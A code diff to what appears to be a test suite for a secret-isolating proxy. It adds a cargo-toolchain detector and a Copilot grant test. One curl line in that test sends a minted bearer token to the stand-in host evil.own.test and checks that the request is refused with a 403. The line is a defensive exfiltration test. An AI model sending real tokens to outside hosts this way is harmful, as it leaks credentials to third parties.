@@ -4,7 +4,9 @@ is inside has no secret, neither the granted one nor the tokens that come of it.
 import json
 import os
 import pathlib
+import re
 import shutil
+import subprocess
 import unittest
 
 import harness
@@ -24,6 +26,18 @@ placeholder: "srch_{random:32}"
 env:
   SEARCH_KEY: "{placeholder}"
 """
+
+
+def toolchain():
+    """Where a cargo is that speaks HTTP to crates.io's index by itself (1.70); Debian 12's is older."""
+    try:
+        root = subprocess.run(["rustc", "--print", "sysroot"], capture_output=True, text=True)
+        root = root.stdout.strip()
+        told = subprocess.run([root + "/bin/cargo", "--version"], capture_output=True, text=True)
+        version = re.match(r"cargo 1\.(\d+)", told.stdout)
+    except OSError:
+        return None
+    return root if version and int(version[1]) >= 70 else None
 
 
 class Registries(MoatTest):
@@ -216,10 +230,27 @@ with zipfile.ZipFile("hello-1.0-py3-none-any.whl", "w") as w:
         self.assertEqual(len(caught), 1)  # the redirect, without anything
         self.assertNotIn("authorization", [name.lower() for name, _ in caught[0]["headers"]])
 
+    def test_copilot(self):
+        self.grant("copilot")
+        done = self.sh("copilot", """
+            t=$(curl -fsS https://api.github.com/copilot_internal/v2/token \\
+                -H "Authorization: token $COPILOT_GITHUB_TOKEN" | sed 's/.*"token": "//; s/".*//')
+            echo "token $t"
+            for own in $t $COPILOT_GITHUB_TOKEN; do
+                curl -fsS https://api.githubcopilot.com/models -H "Authorization: Bearer $own" >>models
+            done
+            curl -sS -o answer -w '%{http_code}\\n' -H "Authorization: Bearer $t" https://evil.own.test/""")
+        self.assertRegex(done.stdout, r"^token moat_[0-9a-f]{40}\n403\n$")
+        sent = [dict(entry["headers"])["Authorization"] for entry in self.asked("api.githubcopilot.com")]
+        self.assertEqual(len(sent), 2)
+        self.assertIn(sent[0], self.registry.bearers)
+        self.assertEqual(sent[1], "Bearer " + self.registry.token)
+        self.assertEqual(self.of_type("secret.minted")[0]["grant"], "copilot")
+
     def test_cargo(self):
         """The shape of what cargo sends; cargo itself where there is one that knows how."""
         self.grant("cargo")
-        cargo = os.environ.get("MOAT_TEST_CARGO")  # a toolchain's directory
+        cargo = toolchain()
         flags = []
         script = """
             curl -fsS https://index.crates.io/config.json >/dev/null
